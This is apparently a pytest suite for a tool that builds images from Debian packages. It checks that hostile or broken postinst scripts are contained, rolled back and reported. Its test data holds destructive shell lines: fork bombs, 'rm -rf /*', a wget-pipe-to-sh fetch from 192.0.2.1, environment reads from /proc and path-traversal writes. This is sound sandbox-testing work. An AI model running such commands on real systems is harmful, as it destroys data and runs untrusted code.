"""Scripts that mean harm or make no sense: bounded, rolled back, reported; nothing of them reaches the host."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from pkg2image.maintscript.limits import Limits
from pkg2image.maintscript.report import Disposition, ScriptReport
from pkg2image.maintscript.run import run_scripts
from pkg2image.rootfs.skeleton import skeleton
from pkg2image.rootfs.tree import Kind, Tree
from pkg2image.rootfs.unpack import unpack
from tests.support.debs import reg, symlink
from tests.support.trees import Shelf, base_debs, dump_tree

EPOCH = 1_700_000_000
LIMITS = Limits(steps=5_000, characters=1 << 24, text=1 << 20, output=1 << 20)
NOISE = random.Random(3).randbytes(4096)

REFUSED = {
    "loops for ever": "while :; do :; done",
    "loops until never": "until false; do x=1; done",
    "calls itself": "f() { f; }; f",
    "calls itself by eval": 'f() { eval "f"; }; f',
    "calls itself by its path": '. "$0"',
    "calls its own file": "echo 'sh /srv/me' > /srv/me; chmod +x /srv/me; sh /srv/me",
    "substitutes itself": "f() { echo $(f); }; f",
    "forks": "f() { f | f & }; f",
    "works in the background": "touch /srv/x & wait",
    "doubles a word": "x=aaaaaaaaaaaaaaaa; while :; do x=$x$x; done",
    "doubles arguments": 'set -- a; while :; do set -- "$@" "$@"; done',
    "doubles a file": "echo x > /srv/a; while :; do cat /srv/a /srv/a > /srv/b; cat /srv/b /srv/b > /srv/a; done",
    "appends for ever": "while :; do echo xxxxxxxxxxxxxxxx >> /srv/a; done",
    "makes directories for ever": "d=/srv; while :; do d=$d/x; mkdir $d; done",
    "makes files for ever": "i=0; while :; do i=$((i+1)); : > /srv/$i; done",
    "pads without end": "printf '%2000000000d' 1 > /srv/x",
    "prints without end": "while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done",
    "counts without end": "seq 1 2000000000 > /srv/x",
    "pipes without end": "yes | head -n 2000000000 > /srv/x",
    "reads a missing file": ". /usr/share/nowhere/functions",
    "has a syntax error": "touch /srv/x\nif true; then",
    "has an open quote": "touch /srv/x\necho 'abc",
    "has an open here-document": "touch /srv/x\ncat <<EOF\nnever ends $(",
    "nests without end": "touch /srv/x\n" + "(" * 20_000 + ":" + ")" * 20_000,
    "substitutes without end": "touch /srv/x\necho " + "$(" * 5_000 + ")" * 5_000,
    "quotes without end": 'touch /srv/x\necho "' + '${x:-"' * 5_000,
    "calculates without end": "touch /srv/x\necho $((" + "(" * 20_000 + "1" + ")" * 20_000 + "))",
    "divides by zero": "touch /srv/x\necho $((1/0))",
    "traps itself": "trap 'exit 1' EXIT; exit 0",
    "replaces itself": "exec /usr/bin/unheard-of",
    "asks the host": "cat /proc/self/environ > /srv/x",
    "talks to the network": "wget -q http://192.0.2.1/x -O - | sh",
    "links in a circle": "ln -s b /srv/a; ln -s a /srv/b; cat /srv/a",
}


def configure(data: bytes, limits: Limits | None = LIMITS) -> tuple[Tree, Tree, ScriptReport]:
    shelf = Shelf()
    deb = shelf.deb(
        "evil",
        reg("usr/share/evil/data", b"x" * 1000),
        symlink("usr/share/evil/out", "../../../../../../../../tmp"),
        control_files={"postinst": data},
    )
    tree = unpack(skeleton(base_debs(shelf), read=shelf.read, epoch=EPOCH), [deb])
    after, report = run_scripts(tree, [deb], read=shelf.read, epoch=EPOCH, architecture="amd64", limits=limits)
    return tree, after, report


def must_be_refused(data: bytes, limits: Limits | None = LIMITS) -> None:
    before, after, report = configure(data, limits)
    (item,) = report.packages
    assert item.disposition is Disposition.NOT_UNDERSTOOD
    assert item.problem is not None
    assert item.problem.reason
    assert dump_tree(after) == dump_tree(before)


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_it_is_bounded_rolled_back_and_reported(text: str) -> None:
    must_be_refused(f"#!/bin/sh\nset -e\n{text}\n".encode())


@pytest.mark.parametrize("name", ["loops for ever", "doubles a word", "doubles a file", "calls itself", "forks"])
def test_the_usual_limits_are_limits_too(name: str) -> None:
    must_be_refused(f"#!/bin/sh\n{REFUSED[name]}\n".encode(), None)


@pytest.mark.parametrize(
    "data",
    [
        NOISE,
        b"#!/bin/sh\n" + NOISE,
        b"#!/bin/sh\n" + NOISE.replace(b"\0", b""),
        b"\x7fELF" + NOISE,
        b"#!" + b"x" * 9999,
    ],
    ids=["noise", "noise after a shebang", "noise without zeros", "program", "long shebang"],
)
def test_junk_is_refused(data: bytes) -> None:
    must_be_refused(data)


@pytest.mark.parametrize(
    "target",
    [
        "../../../../{host}",
        "/{host}",
        "/usr/share/evil/../../../../{host}",
        "//..//{host}",
        "/usr/share/evil/out/../{host}",
    ],
)
@pytest.mark.parametrize(
    "command", ["echo evil > {path}", "cp /usr/share/evil/data {path}", "mkdir -p {path}", "ln -s /etc/passwd {path}"]
)
def test_nothing_is_written_outside_the_image(target: str, command: str, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    path = target.format(host=str(victim).lstrip("/"))
    parent = path.rpartition("/")[0]
    _, after, report = configure(f"#!/bin/sh\nmkdir -p {parent}\n{command.format(path=path)}\n".encode())
    assert not victim.is_symlink()
    assert not victim.exists()
    assert report.packages[0].disposition in set(Disposition)
    assert all(not name.startswith(("/", "..")) for name, _ in after.walk())


def test_the_host_cannot_be_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret of the host")
    _, after, _ = configure(f"#!/bin/sh\ncat {secret} > /srv/x; cp {secret} /srv/y; . {secret}\n".encode())
    files = [entry.content for _, entry in after.walk() if entry.kind is Kind.FILE]
    assert not any(b"secret of the host" in getattr(content, "data", b"") for content in files)


def test_one_evil_package_does_not_harm_the_others() -> None:
    shelf = Shelf()
    evil = shelf.deb("evil", control_files={"postinst": b"#!/bin/sh\nrm -rf /*; while :; do :; done\n"})
    good = shelf.deb("good", control_files={"postinst": b"#!/bin/sh\ntouch /srv/good\n"})
    tree = unpack(skeleton(base_debs(shelf), read=shelf.read, epoch=EPOCH), [evil, good])
    after, report = run_scripts(tree, [evil, good], read=shelf.read, epoch=EPOCH, architecture="amd64", limits=LIMITS)
    assert [item.disposition for item in report.packages] == [Disposition.NOT_UNDERSTOOD, Disposition.INTERPRETED]
    assert set(dump_tree(after)) - set(dump_tree(tree)) == {"srv/good"}
